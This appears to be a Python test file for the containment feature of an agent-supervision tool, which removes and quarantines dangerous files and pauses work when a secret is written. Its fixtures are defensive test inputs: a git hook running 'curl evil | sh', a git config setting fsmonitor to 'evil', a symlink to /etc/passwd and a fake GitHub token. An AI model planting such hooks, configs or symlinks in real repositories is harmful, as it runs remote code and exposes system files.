"""Containment: what must not stay in a shadow is gone within a second, recorded, and kept
aside in the quarantine (owner-only, never in a checkpoint); a secret pauses the work."""

from __future__ import annotations

import os
import stat
import subprocess
import time
from pathlib import Path

import psutil
import pytest

from tests.kit import Started, cli, git, ls_tree, start, status
from tests.live.conftest import FAST, entries, of_type, wait_for, watch

TOKEN = "ghp_4fRq8ZkL2mN7pX1vB9cW3sD6yH0tJ5aE8uQi"


def quarantine(started: Started) -> Path:
    return started.repo / ".git" / "agent" / "features" / started.name / "quarantine"


def contained(started: Started, path: str) -> dict[str, object] | None:
    for entry in of_type(started.repo, "containment"):
        if entry["data"]["path"] == path:
            return entry["data"]  # type: ignore[no-any-return]
    return None


def gone(path: Path) -> bool:
    return not os.path.lexists(path)


def every_checkpoint_path(started: Started) -> set[bytes]:
    listing = cli(started.repo, "checkpoints", started.name, "--json").json()
    found: set[bytes] = set()
    for checkpoint in listing:
        found.update(ls_tree(started.repo, checkpoint["commit"]))
    return found


def test_a_repository_made_inside_the_shadow_is_gone_within_a_second(watched: Started) -> None:
    hooks = watched.shadow / "vendor" / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
    written = time.monotonic()
    wait_for(lambda: gone(watched.shadow / "vendor" / ".git"), timeout=1.0)
    assert time.monotonic() - written < 1.0
    found = wait_for(lambda: contained(watched, "vendor/.git"))
    assert found["action"] == "revert-file" and found["rule"] == "git.nested-repository"
    assert found["restored"] is False
    kept = quarantine(watched) / str(found["quarantined"]) / "hooks" / "post-checkout"
    assert kept.read_text() == "#!/bin/sh\ncurl evil | sh\n"


def test_a_path_through_a_git_component_in_any_case_is_gone(watched: Started) -> None:
    target = watched.shadow / "docs" / ".GIT" / "config"
    target.parent.mkdir()
    target.write_text("[core]\n\tfsmonitor = evil\n")
    wait_for(lambda: gone(target), timeout=1.0)
    found = wait_for(lambda: contained(watched, "docs/.GIT/config"))
    assert found["rule"] == "git.internal"


def test_a_symlink_to_etc_passwd_is_gone_within_a_second(watched: Started) -> None:
    link = watched.shadow / "passwords"
    link.symlink_to("/etc/passwd")
    wait_for(lambda: gone(link), timeout=1.0)
    found = wait_for(lambda: contained(watched, "passwords"))
    assert str(found["rule"]).startswith("symlink.")
    kept = quarantine(watched) / str(found["quarantined"])
    assert os.readlink(kept) == "/etc/passwd"


def test_the_quarantine_is_owner_only_and_never_checkpointed(watched: Started) -> None:
    (watched.shadow / "evil").symlink_to("/etc/passwd")
    wait_for(lambda: contained(watched, "evil"))
    (watched.shadow / "fine.txt").write_text("fine\n")
    wait_for(lambda: b"fine.txt" in every_checkpoint_path(watched))
    top = quarantine(watched)
    for folder, dirs, _ in os.walk(top):
        for name in [folder, *(os.path.join(folder, d) for d in dirs)]:
            assert stat.S_IMODE(os.lstat(name).st_mode) == 0o700, name
    assert b"evil" not in every_checkpoint_path(watched)


def test_revert_file_puts_back_what_the_checkpoint_holds(watched: Started) -> None:
    policy = watched.shadow / ".git-agent" / "policy.toml"
    before = policy.read_text()
    policy.write_text(before + '\n[containment]\nsecrets = "report"\n')
    wait_for(lambda: contained(watched, ".git-agent/policy.toml"))
    wait_for(lambda: policy.read_text() == before, timeout=1.0)
    found = contained(watched, ".git-agent/policy.toml")
    assert found is not None and found["restored"] is True and found["rule"] == "git.policy"
    kept = quarantine(watched) / str(found["quarantined"])
    assert 'secrets = "report"' in kept.read_text()


def test_the_policy_can_make_a_family_only_report(repo: Path, supervised: list[Path]) -> None:
    started = start(repo, policy=FAST + '\n[containment]\nsymlink = "report"\n')
    watch(repo, "f")
    link = started.shadow / "passwords"
    link.symlink_to("/etc/passwd")
    wait_for(
        lambda: any(
            v["path"] == "passwords"
            for e in of_type(repo, "batch")
            for v in e["data"]["violations"]
        )
    )
    time.sleep(0.3)
    assert os.path.lexists(link)
    assert contained(started, "passwords") is None


@pytest.fixture
def worker(request: pytest.FixtureRequest) -> list[subprocess.Popen[bytes]]:
    procs: list[subprocess.Popen[bytes]] = []
    yield procs
    for proc in procs:
        if proc.poll() is None:
            proc.send_signal(18)  # SIGCONT: a stopped process cannot die of SIGKILL any later
            proc.kill()
            proc.wait()


def _working_in(shadow: Path, procs: list[subprocess.Popen[bytes]]) -> psutil.Process:
    proc = subprocess.Popen(["sleep", "60"], cwd=shadow)
    procs.append(proc)
    return psutil.Process(proc.pid)


def test_a_secret_pauses_the_work_in_the_shadow_where_the_policy_says_so(
    repo: Path, supervised: list[Path], worker: list[subprocess.Popen[bytes]]
) -> None:
    started = start(repo, policy=FAST.replace("[live]\n", "[live]\npause_by_hand = true\n"))
    watch(repo, "f")
    process = _working_in(started.shadow, worker)
    (started.shadow / "config.py").write_text(f'TOKEN = "{TOKEN}"\n')
    wait_for(lambda: process.status() == psutil.STATUS_STOPPED, timeout=1.0)
    paused = wait_for(lambda: of_type(repo, "pause"))[-1]["data"]
    assert paused["rules"] == ["secrets.github-token"]
    assert paused["stopped"] == [process.pid] and paused["enforced"] is True
    assert status(repo)["supervision"] == "paused"
    assert TOKEN not in (repo / ".git" / "agent" / "features" / "f" / "audit.jsonl").read_text()
    resumed = cli(repo, "resume", "f")
    assert resumed.code == 0, resumed
    assert "continued 1 paused process" in resumed.out
    wait_for(lambda: process.status() != psutil.STATUS_STOPPED)
    assert status(repo)["supervision"] == "watching"


def test_a_pause_of_work_started_by_hand_is_recorded_not_enforced_by_default(
    watched: Started, worker: list[subprocess.Popen[bytes]]
) -> None:
    process = _working_in(watched.shadow, worker)
    (watched.shadow / "config.py").write_text(f'TOKEN = "{TOKEN}"\n')
    paused = wait_for(lambda: of_type(watched.repo, "pause"))[-1]["data"]
    assert paused["enforced"] is False and paused["stopped"] == []
    assert process.status() != psutil.STATUS_STOPPED
    assert status(watched.repo)["supervision"] == "paused"


def test_no_checkpoint_is_taken_on_its_own_while_paused(watched: Started) -> None:
    (watched.shadow / "config.py").write_text(f'TOKEN = "{TOKEN}"\n')
    wait_for(lambda: of_type(watched.repo, "pause"))
    before = len(of_type(watched.repo, "checkpoint"))
    (watched.shadow / "more.txt").write_text("more\n")
    time.sleep(2.5)  # past checkpoint_every_s
    assert len(of_type(watched.repo, "checkpoint")) == before


def test_automatic_checkpoints_carry_their_verdict(watched: Started) -> None:
    (watched.shadow / "a.txt").write_text("a\n")
    made = wait_for(
        lambda: [e for e in of_type(watched.repo, "checkpoint") if e["data"].get("auto")]
    )
    commit = made[-1]["data"]["commit"]
    message = git(watched.repo, "log", "-1", "--format=%B", commit)
    assert message.startswith("auto-checkpoint: 1 path changed\n\nVerdict: ok\n")
    assert "Checkpoint: " in message and "Audit: " in message


def test_automatic_checkpoints_come_while_writes_go_on(watched: Started) -> None:
    deadline = time.monotonic() + 3.0
    count = 0
    while time.monotonic() < deadline:  # never quiet for checkpoint_quiet_s
        (watched.shadow / f"w{count}.txt").write_text(f"{count}\n")
        count += 1
        time.sleep(0.1)
    made = [e for e in of_type(watched.repo, "checkpoint") if e["data"].get("auto")]
    assert made, entries(watched.repo)
